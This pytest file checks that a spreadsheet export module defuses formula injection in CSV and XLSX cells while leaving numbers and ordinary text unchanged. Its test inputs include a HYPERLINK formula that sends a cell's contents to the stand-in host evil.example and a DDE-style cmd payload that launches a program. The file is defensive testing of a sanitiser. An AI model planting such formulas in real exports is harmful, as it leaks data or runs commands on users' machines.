"""No export carries a live formula: the one rule of governance.kernel.spreadsheets."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from governance.kernel.spreadsheets import csv_cell, xlsx_cell

EVIL = '=HYPERLINK("http://evil.example/x?"&A2,"点击查看")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+86 138", "'+86 138"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
        # Numbers, also as the text a report prints, are never changed.
        ("-3", "-3"),
        ("-1.25", "-1.25"),
        ("+5", "+5"),
        ("-0.5%", "-0.5%"),
        ("93.72", "93.72"),
        (-3, -3),
        (2.5, 2.5),
        # Ordinary text, and text with a trigger inside rather than first.
        ("甲一社区", "甲一社区"),
        ("a=b", "a=b"),
        ("—", "—"),
        ("", ""),
        (None, None),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, written):
    assert csv_cell(value) == written


def test_xlsx_text_is_a_string_cell_never_a_formula():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("t")
    sheet.append([xlsx_cell(sheet, EVIL), xlsx_cell(sheet, "-2+3"), xlsx_cell(sheet, 42), xlsx_cell(sheet, None)])
    out = io.BytesIO()
    workbook.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue()))["t"].iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells] == [(EVIL, "s"), ("-2+3", "s"), (42, "n")]
